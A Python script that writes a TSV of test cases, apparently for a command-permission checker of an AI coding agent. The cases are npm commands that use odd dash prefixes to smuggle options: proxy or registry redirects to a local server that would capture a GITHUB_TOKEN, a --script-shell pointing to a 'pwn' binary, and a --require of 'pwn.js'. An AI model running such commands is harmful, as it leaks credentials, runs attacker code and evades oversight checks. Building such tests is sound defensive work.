PK = 'printf "%s" "{\\"name\\":\\"p\\",\\"version\\":\\"1.0.0\\",\\"scripts\\":{\\"test\\":\\"echo ok\\"}}" > package.json && printf "//registry.npmjs.org/:_authToken=\\${GITHUB_TOKEN}\\n" > @H@/.npmrc'
rows = []
def r(cls, setup, line):
    rows.append(cls + "\t" + (("setup:" + setup + " ;;; ") if setup else "") + line)
for d in ["---", "-", "----"]:
    r("npm-dash", PK, "npm test %sproxy=http://127.0.0.1:8765/ %sregistry=http://registry.npmjs.org/" % (d, d))
    r("npm-dash", PK, "npm test %sregistry=http://127.0.0.1:8765/" % d)
r("npm-dash", PK, "npm test --proxy=http://127.0.0.1:8765/ ---registry=http://registry.npmjs.org/")
r("npm-dash", PK, "npm test ---https-proxy=http://127.0.0.1:8765/ ---registry=http://registry.npmjs.org/")
r("npm-dash", PK, "npm test -proxy http://127.0.0.1:8765/ -registry http://registry.npmjs.org/")
r("npm-dash", PK, "npm run test ---proxy=http://127.0.0.1:8765/ ---registry=http://registry.npmjs.org/")
r("npm-dash", PK, "npm build ---proxy=http://127.0.0.1:8765/ ---registry=http://registry.npmjs.org/")
r("npm-dash", PK, "npm test ---prefix=@H@ ---userconfig=/dev/null")
r("npm-dash", PK + "; mkdir claude", "go:'cat > claude/rc <<\\'EOF\\'\\nregistry=http://127.0.0.1:8765/\\nEOF\\nnpm test ---userconfig=claude/rc'")
r("npm-dash", PK, "npm test ---script-shell=@P@/pwn")
r("npm-dash", PK, "npm test -script-shell=@P@/pwn")
r("npm-dash", PK, "npm test ---node-options='--require=@P@/pwn.js'")
r("npm-dash", PK, "npm test ---cache=@H@/.config/npm-c")
r("npm-dash", PK, "npm test ---logs-dir=@H@/.config/npm-l")
open("c_npm2.tsv", "w").write("\n".join(rows) + "\n")
